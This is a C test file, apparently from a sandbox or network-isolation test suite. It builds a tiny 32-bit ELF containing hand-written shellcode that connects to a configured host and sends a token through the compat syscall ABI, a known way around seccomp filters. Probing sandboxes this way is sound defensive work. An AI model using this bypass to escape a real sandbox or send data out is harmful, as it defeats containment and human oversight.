// A whole program of the kernel's 32-bit ABI, with a table of calls of its own: i386 on x86, 32-bit ARM on 64-bit ARM.
#include "net.h"
#include <elf.h>
#include <stddef.h>
#include <signal.h>
#include <sys/wait.h>

// socket, connect and write, then exit with the last answer.
#ifdef __x86_64__
enum { MACHINE = EM_386, FLAGS = 0 };
static const unsigned char code[] = {
    0x90, 0x90, 0x90, 0xe8, 0, 0, 0, 0, 0x5e,                                        // where am I: esi
    0xb8, 0x67, 0x01, 0, 0, 0xbb, 2, 0, 0, 0, 0xb9, 2, 0, 0, 0, 0x31, 0xd2, 0xcd, 0x80,      // 359(2, 2, 0)
    0x89, 0xc3, 0xb8, 0x6a, 0x01, 0, 0, 0x8d, 0x8e, 0x44, 0, 0, 0, 0xba, 16, 0, 0, 0, 0xcd, 0x80, // 362(fd, to, 16)
    0xb8, 4, 0, 0, 0, 0x8d, 0x8e, 0x58, 0, 0, 0, 0x8b, 0x96, 0x54, 0, 0, 0, 0xcd, 0x80,        // 4(fd, text, length)
    0x89, 0xc3, 0xb8, 1, 0, 0, 0, 0xcd, 0x80,                                        // 1(answer)
};
#elif defined __aarch64__
enum { MACHINE = EM_ARM, FLAGS = 0x05000000 };
static const uint32_t code[] = {
    0xe3a00002, 0xe3a01002, 0xe3a02000, 0xe3007119, 0xef000000,             // 281(2, 2, 0)
    0xe1a04000, 0xe28f1024, 0xe3a02010, 0xe300711b, 0xef000000,             // 283(fd, to, 16)
    0xe1a00004, 0xe28f1024, 0xe59f201c, 0xe3a07004, 0xef000000,             // 4(fd, text, length)
    0xe3a07001, 0xef000000,                                                 // 1(answer)
};
#endif

struct program {
    Elf32_Ehdr head;
    Elf32_Phdr segment;
    unsigned char code[sizeof code];
    struct sockaddr_in to;
    uint32_t length;
    char text[128];
};

static void foreign_program(const struct world *w) {
    const uint32_t start = 0x8048000;
    struct program p = {
        .head = {{0x7f, 'E', 'L', 'F', ELFCLASS32, ELFDATA2LSB, EV_CURRENT}, ET_EXEC, MACHINE, EV_CURRENT,
                 start + offsetof(struct program, code), offsetof(struct program, segment), 0, FLAGS, sizeof p.head,
                 sizeof p.segment, 1, 0, 0, 0},
        .segment = {PT_LOAD, 0, start, start, sizeof p, sizeof p, PF_R | PF_X, 4096},
        .to = in4(w->host4, w->port),
    };
    memcpy(p.code, code, sizeof code);
    p.length = snprintf(p.text, sizeof p.text, "%s", w->token);
    const char *path = "/tmp/foreign";
    int fd = prepare(open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0700));
    prepare(write(fd, &p, sizeof p));
    close(fd);
    pid_t child = fork();
    if (child == 0) {
        execl(path, path, NULL);
        // A kernel without that ABI.
        _exit(errno == ENOEXEC ? 256 - ENOSYS : 256 - errno);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) kill(getpid(), WTERMSIG(status));
    if (WEXITSTATUS(status) == p.length) succeeded("sent");
    errno = 256 - WEXITSTATUS(status);
    refused("foreign");
}

#define NAMED(x) {#x, x}
const struct attack foreign_attacks[] = {NAMED(foreign_program), {0}};
